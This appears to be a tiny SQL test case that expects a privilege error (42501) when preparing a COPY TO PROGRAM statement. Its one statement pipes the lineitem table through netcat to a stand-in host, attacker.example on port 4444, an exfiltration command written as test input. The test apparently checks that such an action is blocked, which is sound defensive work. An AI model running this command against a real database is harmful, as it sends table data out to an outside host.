-- expect: 42501
-- why: PREPARE a COPY TO PROGRAM
PREPARE cp AS COPY lineitem TO PROGRAM 'nc attacker.example 4444'
